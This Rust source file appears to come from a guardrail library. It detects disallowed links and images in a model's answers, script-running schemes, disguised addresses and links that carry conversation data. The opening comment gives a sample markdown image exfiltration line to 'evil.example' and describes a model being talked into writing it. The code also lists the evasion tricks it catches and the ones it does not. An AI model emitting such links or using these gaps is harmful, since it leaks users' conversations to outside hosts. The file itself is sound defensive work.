//! Links and images that lead to a host which is on no list, and what they would carry there.
//!
//! An image is fetched as soon as it is shown, so that a model that was talked into writing
//! `![](https://evil.example/?d=…)` gives the conversation away without a click. Found are addresses with a scheme,
//! `www.` names, and, where markdown, HTML or CSS expects an address, those that begin with `//`; also addresses that
//! run a script. Which host is asked is decided as a browser does (`host.rs`). Addresses are read in the original text
//! and not in the view: for a browser a look-alike letter makes another host.
//!
//! Not read: addresses that a renderer would put together itself (`base` elements, scripts), and schemes broken up by
//! tabs or line breaks.

use std::sync::Arc;

use gauntlet_types::Finding;

use crate::{
    candidate::{EXFILTRATION, LINKS},
    decode::forms,
    host::{Address, Host, Hosts},
    output::data::Seen,
    shingle::{self, Hashes, mix},
    window::Window,
};

/// Longer addresses are cut here, in bytes: browsers take more, but no one writes more into a text.
pub const URL_MAX: usize = 2048;

/// How far to the left of an address its `srcset` may stand, in bytes: less than what a stream keeps.
const SET_LEFT: usize = 120;

/// White space between an address and what opens it.
const GAP_MAX: usize = 16;

/// Slashes after a scheme; browsers take any number.
const SLASHES_MAX: usize = URL_MAX;

/// Schemes that fetch, and those that run what follows.
const FETCH: [&str; 9] = ["https", "http", "wss", "ws", "ftps", "sftp", "ftp", "file", "smb"];
const RUN: [&str; 3] = ["javascript", "vbscript", "data"];
const NAME_MAX: usize = 10;

/// Documents in a `data:` address that a browser runs; pictures are harmless.
const ACTIVE: [&str; 7] = [
    "text/html",
    "image/svg",
    "application/xhtml",
    "text/javascript",
    "application/javascript",
    "text/xml",
    "application/xml",
];

/// Which hosts an answer may link to, and what of the conversation may not leave with a link.
#[derive(Clone, Debug, Default)]
pub struct LinkRules {
    hosts: Arc<Hosts>,
    seen: Seen,
    /// Addresses that the conversation gave the model to use.
    given: Hashes,
}

/// What opens an address, and so what ends it.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Opener {
    Quote(u8),
    Angle,
    /// Parentheses, an attribute without quotes, the definition of a reference.
    Other,
    /// Plain text, in which renderers find addresses by themselves.
    None,
}

enum Reading {
    Nothing,
    /// What it is depends on text that has not come yet; it begins here.
    Undecided(usize),
    Found(Finding),
}

impl LinkRules {
    /// Allows links to `hosts` (`example.com`, or `*.example.com` for those below it) and to no others.
    pub fn new(hosts: &[impl AsRef<str>]) -> LinkRules {
        LinkRules { hosts: Arc::new(Hosts::new(hosts)), ..LinkRules::default() }
    }

    /// The same for one call. Addresses that stand in `trusted` texts may be repeated as they are; a link that holds
    /// text or values of `conversation` (secrets, addresses, three words in a row) carries data.
    pub fn for_call(&self, trusted: &[&str], conversation: &[&str]) -> LinkRules {
        let mut given = Hashes::default();
        let bare = LinkRules::default();
        for text in trusted {
            let mut links = Vec::new();
            bare.collect(text, true, 0, &mut links);
            given.extend(links.iter().filter_map(|link| text.get(link.span.clone())).map(key));
        }
        LinkRules { hosts: Arc::clone(&self.hosts), seen: Seen::of(conversation), given }
    }

    /// Appends the links of a text that are not allowed, in order.
    pub fn find(&self, text: &str, out: &mut Vec<Finding>) {
        self.collect(text, true, 0, out);
    }

    /// Appends what begins at or after `from`, and returns up to where the text is settled.
    pub(crate) fn collect(&self, text: &str, is_last: bool, from: usize, out: &mut Vec<Finding>) -> usize {
        let window = Window::new(text, false, is_last);
        let (mut from, mut at) = (from, from);
        while let Some(i) = next(text.as_bytes(), at) {
            at = i + 1;
            match self.at(&window, text, i, from) {
                Reading::Nothing => {}
                Reading::Undecided(start) => return start.max(from),
                Reading::Found(finding) => {
                    (from, at) = (finding.span.end, finding.span.end);
                    out.push(finding);
                }
            }
        }
        if is_last { text.len() } else { name_under_way(text.as_bytes()).max(from) }
    }

    /// Looks at the byte at `i`.
    fn at(&self, window: &Window, text: &str, i: usize, from: usize) -> Reading {
        window.take_touched();
        let Some((c, len)) = unit(window, i) else { return Reading::Nothing };
        let reading = match c {
            ':' => match name_before(window, i) {
                Some(name) if i - name.len() >= from => {
                    self.scheme(window, text, i - name.len(), i + len, name)
                }
                None if is_broken(window, i) => match slashes(window, i + len) {
                    (end, 2..) => self.address(window, text, i, end, true),
                    _ => Reading::Nothing,
                },
                _ => return Reading::Nothing,
            },
            '.' if ends_www(window, i) && i - 3 >= from => match window.at(i + len).is_ascii_alphanumeric() {
                true => self.address(window, text, i - 3, i - 3, false),
                false => Reading::Nothing,
            },
            '/' | '\\' if !matches!(window.before(i), b':' | b'/' | b'\\' | b';') => {
                if opener(window, i) == Opener::None {
                    return Reading::Nothing;
                }
                match slashes(window, i) {
                    (end, 2..) => {
                        let is_odd = len > 1 || window.slice(i, end).contains(&b'\\');
                        self.address(window, text, i, end, is_odd)
                    }
                    // An escaped quote or line in JSON.
                    _ => Reading::Nothing,
                }
            }
            '&' => {
                return if window.take_touched() {
                    Reading::Undecided(entity_start(window, i))
                } else {
                    Reading::Nothing
                };
            }
            _ => return Reading::Nothing,
        };
        if window.take_touched() {
            return Reading::Undecided(match c {
                ':' => name_before(window, i).map_or(i, |name| i - name.len()),
                '.' => i - 3,
                _ => i,
            });
        }
        reading
    }

    /// An address whose scheme stands at `start` and is over at `after`.
    fn scheme(&self, window: &Window, text: &str, start: usize, after: usize, name: &str) -> Reading {
        if RUN.contains(&name) {
            let is_script = match name {
                "data" => ACTIVE.iter().any(|kind| has(window, after, kind)),
                _ => opener(window, start) != Opener::None && window.at(after) > b' ',
            };
            if !is_script {
                return Reading::Nothing;
            }
            let (end, _) = self.extent(window, after, after, opener(window, start), start + URL_MAX);
            return found(LINKS, "script_link", start..end);
        }
        let (end, count) = slashes(window, after);
        if count == 0 || count == 1 && opener(window, start) == Opener::None {
            return Reading::Nothing;
        }
        let is_odd = window.slice(start + name.len(), end).iter().any(|byte| matches!(byte, b'\\' | b'&'));
        self.address(window, text, start, end, is_odd)
    }

    /// An address that begins at `start` and whose host begins at `host`.
    fn address(&self, window: &Window, text: &str, start: usize, host: usize, is_odd: bool) -> Reading {
        let opener = opener(window, start);
        let limit = start + URL_MAX;
        let (mut authority, mut at, mut bare) = (String::new(), host, (host, 0));
        let mut is_disguised = is_odd;
        while at < limit {
            let Some((c, len)) = unit(window, at).filter(|(c, _)| !ends(*c, opener)) else { break };
            let is_over = match c {
                '/' | '?' | '#' | '\\' | ')' => true,
                ']' => !authority.starts_with('['),
                // The ideographic full stop is a dot to a browser.
                c => opener == Opener::None && !c.is_ascii() && !c.is_alphanumeric() && c != '\u{3002}',
            };
            if is_over {
                is_disguised |= c == '\\' && !matches!(window.at(at + 1), b'"' | b'\'');
                break;
            }
            is_disguised |= len > c.len_utf8() || !c.is_ascii() || c == '%';
            authority.push(c);
            at += len;
            if opener != Opener::None || !is_mark(c) {
                bare = (at, authority.len());
            }
        }
        authority.truncate(bare.1);
        if authority.is_empty() {
            return Reading::Nothing;
        }
        let host = Host::of_authority(&authority);
        if self.hosts.allow(&host) {
            return Reading::Nothing;
        }
        is_disguised |= authority.contains('@')
            || authority.to_ascii_lowercase().contains("xn--")
            || matches!(&host, Host::Ip(address) if !authority.contains(&address.to_string()));
        let (end, rest) = self.extent(window, at, bare.0, opener, limit);
        if text.get(start..end).is_some_and(|link| self.given.contains(&key(link))) {
            return Reading::Nothing;
        }
        let name = if let Host::Name(name) = &host { name.as_str() } else { "" };
        if self.seen.is_carried(name, &rest) {
            return found(EXFILTRATION, "link_with_data", start..end);
        }
        found(LINKS, if is_disguised { "disguised_link" } else { "link" }, start..end)
    }

    /// Where the address ends, and what it says from `at` on; `bare` is where it ends if nothing but marks follows.
    fn extent(
        &self,
        window: &Window,
        at: usize,
        bare: usize,
        opener: Opener,
        limit: usize,
    ) -> (usize, String) {
        let (mut at, mut rest, mut depth) = (at, String::new(), 0);
        // After the last character that is no mark, in bytes of the text and of what it says.
        let mut end = (bare, 0);
        while at < limit {
            let Some((c, len)) = unit(window, at).filter(|(c, _)| !ends(*c, opener)) else { break };
            match c {
                // The end of a string in JSON; asked for first, so that a stream waits for it.
                '\\' if matches!(window.at(at + 1), b'"' | b'\'') => break,
                _ if matches!(opener, Opener::Quote(_)) => {}
                '(' => depth += 1,
                ')' if depth == 0 => break,
                ')' => depth -= 1,
                ']' | '[' if opener == Opener::None => break,
                c if opener == Opener::None && !c.is_ascii() && !c.is_alphanumeric() => break,
                _ => {}
            }
            if at + len > limit {
                break;
            }
            rest.push(c);
            at += len;
            if opener != Opener::None || !is_mark(c) {
                end = (at, rest.len());
            }
        }
        rest.truncate(end.1);
        (end.0, rest)
    }
}

fn found(kind: &'static str, label: &'static str, span: std::ops::Range<usize>) -> Reading {
    Reading::Found(Finding { kind, label, span, score: 1.0 })
}

/// The next byte that may tell an address.
fn next(bytes: &[u8], from: usize) -> Option<usize> {
    let rest = bytes.get(from..)?;
    rest.iter().position(|byte| matches!(byte, b':' | b'/' | b'\\' | b'&' | b'.')).map(|at| from + at)
}

/// The character at `i` and how many bytes say it; an entity is read. `None` at the end.
fn unit(window: &Window, i: usize) -> Option<(char, usize)> {
    let byte = window.at(i);
    match byte {
        0 => None,
        b'&' => Some(forms::entity(|k| window.at(i + k)).unwrap_or(('&', 1))),
        1..=0x7F => Some((char::from(byte), 1)),
        _ => {
            // Pieces of a stream end between characters.
            let len = match byte {
                0xF0.. => 4,
                0xE0.. => 3,
                _ => 2,
            };
            let c = std::str::from_utf8(window.slice(i, i + len)).ok()?.chars().next()?;
            Some((c, len))
        }
    }
}

/// Whether `word` stands at `i`, in either case.
fn has(window: &Window, i: usize, word: &str) -> bool {
    word.bytes().enumerate().all(|(k, byte)| window.at(i + k).to_ascii_lowercase() == byte)
}

fn slashes(window: &Window, i: usize) -> (usize, usize) {
    let (mut at, mut count) = (i, 0);
    while count < SLASHES_MAX {
        match unit(window, at) {
            Some(('/' | '\\', len)) => (at, count) = (at + len, count + 1),
            _ => break,
        }
    }
    (at, count)
}

/// The scheme that ends at `end`, if it is one that matters. The longest: `sftp` and not `ftp`.
fn name_before(window: &Window, end: usize) -> Option<&'static str> {
    let is_before = |name: &&&'static str| {
        end >= name.len() && window.slice(end - name.len(), end).eq_ignore_ascii_case(name.as_bytes())
    };
    FETCH.iter().chain(&RUN).filter(is_before).max_by_key(|name| name.len()).copied()
}

/// Whether what stands before a colon is the end of `https`, the beginning of which is written as entities or broken off
/// by a line or tab, as browsers read past. The address is found from its colon on then: the rest may be shown already.
fn is_broken(window: &Window, colon: usize) -> bool {
    let start = window.run_back(colon, NAME_MAX, |byte| byte.is_ascii_alphabetic());
    let tail = window.slice(start, colon).to_ascii_lowercase();
    let is_tail = b"https".ends_with(&tail) || b"http".ends_with(&tail);
    match window.before(start) {
        b';' => is_tail,
        b'\n' | b'\t' | b'\r' => is_tail && !tail.is_empty(),
        _ => false,
    }
}

/// Where a scheme or `www` that the text ends in begins; the end when it ends in none.
fn name_under_way(bytes: &[u8]) -> usize {
    let from = bytes.len().saturating_sub(NAME_MAX);
    let is_head = |tail: &[u8], name: &str| {
        name.as_bytes().get(..tail.len()).is_some_and(|head| head.eq_ignore_ascii_case(tail))
    };
    (from..bytes.len())
        .find(|at| FETCH.iter().chain(&RUN).chain(&["www"]).any(|name| is_head(&bytes[*at..], name)))
        .unwrap_or(bytes.len())
}

/// The start of the scheme, or of the `www`, before an entity that is under way: it may be a colon or a dot.
fn entity_start(window: &Window, i: usize) -> usize {
    match name_before(window, i) {
        Some(name) => i - name.len(),
        None if ends_www(window, i) => i - 3,
        None => i,
    }
}

fn ends_www(window: &Window, i: usize) -> bool {
    i >= 3
        && window.slice(i - 3, i).eq_ignore_ascii_case(b"www")
        && !(window.before(i - 3).is_ascii_alphanumeric()
            || matches!(window.before(i - 3), b'/' | b'.' | b'@' | b'-'))
}

/// What stands before an address and makes it one.
fn opener(window: &Window, start: usize) -> Opener {
    let skip = |at: usize| window.run_back(at, GAP_MAX, |byte| matches!(byte, b' ' | b'\n' | b'\t' | b'\r'));
    let at = skip(start);
    match window.before(at) {
        quote @ (b'"' | b'\'') if at == start => {
            // In JSON a quote has a backslash before it.
            let before = skip(at - 1 - usize::from(window.before(at - 1) == b'\\'));
            match window.before(before) {
                b'=' | b'(' => Opener::Quote(quote),
                _ => Opener::None,
            }
        }
        b'(' if window.before(at - 1) == b']' => Opener::Other,
        b'(' if at >= 4 && window.slice(at - 4, at - 1).eq_ignore_ascii_case(b"url") => Opener::Other,
        b'<' => Opener::Angle,
        b'=' => Opener::Other,
        b':' if window.before(at - 1) == b']' => Opener::Other,
        b',' => {
            let left = window.slice(at.saturating_sub(SET_LEFT), at);
            let is_set = left.windows(6).any(|word| word.eq_ignore_ascii_case(b"srcset"));
            if is_set { Opener::Other } else { Opener::None }
        }
        _ => Opener::None,
    }
}

fn ends(c: char, opener: Opener) -> bool {
    match opener {
        Opener::Quote(quote) => c == char::from(quote) || matches!(c, '<' | '>'),
        Opener::Angle => matches!(c, '>' | '<' | '\n' | '\r'),
        Opener::Other | Opener::None => {
            c.is_whitespace() || c.is_control() || matches!(c, '<' | '>' | '"' | '`')
        }
    }
}

/// What ends a sentence, or an emphasis, rather than an address.
fn is_mark(c: char) -> bool {
    matches!(c, '.' | ',' | ';' | ':' | '!' | '?' | '\'' | '*' | '_' | '~' | '\\')
}

/// An address by which it is known again: without regard to case of the host or a final slash.
fn key(link: &str) -> u64 {
    let link = link.trim_end_matches(is_mark).trim_end_matches('/');
    let (host, path) = match Address::parse(link) {
        Some(Address { host: Host::Name(name), rest, .. }) => (name, rest),
        _ => (link.to_ascii_lowercase(), String::new()),
    };
    host.chars()
        .chain(path.trim_end_matches('/').chars())
        .fold(shingle::SEED, |hash, c| mix(hash, u64::from(c)))
}

#[cfg(test)]
mod tests;
